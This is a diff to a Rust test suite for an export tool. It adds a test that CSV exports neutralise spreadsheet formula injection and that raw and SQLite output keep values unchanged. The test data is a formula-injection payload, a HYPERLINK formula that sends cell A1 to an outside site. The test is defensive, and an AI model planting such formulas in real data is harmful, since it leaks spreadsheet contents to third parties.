@@ -4,7 +4,7 @@
 #[path = "support/server.rs"]
 mod server;
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
 use std::io::{Read, Write};
 use std::net::TcpListener;
@@ -144,6 +144,36 @@ fn check(dir: &Path) -> BTreeMap<&'static str, Vec<String>> {
     tables
 }
 
+#[tokio::test]
+async fn a_spreadsheet_runs_nothing_that_people_chose_and_a_program_reads_it_as_it_is() {
+    let stage = Stage::new();
+    let server = Server::start(&stage.data());
+    server.prepare(4, json!({})).await;
+    let formula = "=HYPERLINK(\"https://example.org?\"&A1)";
+    let sign_up = json!({"email": "mal@example.org", "name": formula, "password": "correct horse battery"});
+    assert_eq!(server.admin(Method::POST, "/api/v1/users", Some(sign_up)).await.0, 201);
+    let body = json!({"scheduleId": "s", "bestAvailable": {"count": 1}});
+    assert_eq!(server.user("@who", Method::POST, "/api/v1/reservations", Some(body)).await.0, 201);
+
+    let (to, url) = (stage.to("books"), server.url.clone());
+    let cells = |arguments: &[&str]| {
+        ended(&export(&to, &[&["--url", &url, "--overwrite"], arguments].concat()), 0);
+        let bytes = fs::read(to.join("users.csv")).unwrap();
+        let text: BTreeSet<String> = csv::Reader::from_reader(bytes.as_slice())
+            .records()
+            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect();
+        (bytes.starts_with(b"\xef\xbb\xbf"), text)
+    };
+    let (marked, safe) = cells(&[]);
+    assert!(marked && safe.contains(&format!("'{formula}")) && safe.contains("'@who"), "{safe:?}");
+    assert!(!safe.iter().any(|cell| cell.starts_with(['=', '+', '-', '@'])), "{safe:?}");
+    let (marked, raw) = cells(&["--raw-csv"]);
+    assert!(!marked && raw.contains(formula) && raw.contains("@who"), "{raw:?}");
+    let names = query(&open(&to), "SELECT name FROM users WHERE name IS NOT NULL");
+    assert_eq!(names, [formula], "SQLite has it as it is");
+}
+
 fn assert_no_secret(dir: &Path) {
     for entry in fs::read_dir(dir).unwrap() {
         let path = entry.unwrap().path();
@@ -235,8 +265,8 @@ async fn an_export_is_replaced_only_when_that_is_asked_for() {
     assert_eq!(server.user("lee", Method::POST, "/api/v1/reservations", Some(body)).await.0, 201);
     fs::write(to.join("notes.txt"), "mine").unwrap();
     // What a killed run left is no export.
-    fs::create_dir(to.join("onsale-export.partial")).unwrap();
-    fs::write(to.join("onsale-export.partial/seats.csv"), "half").unwrap();
+    fs::create_dir(to.join("onsale-export.partial-7")).unwrap();
+    fs::write(to.join("onsale-export.partial-7/seats.csv"), "half").unwrap();
     ended(&export(&to, &["--url", &url, "--overwrite"]), 0);
     assert_eq!(fs::read_to_string(to.join("notes.txt")).unwrap(), "mine");
     fs::remove_file(to.join("notes.txt")).unwrap();
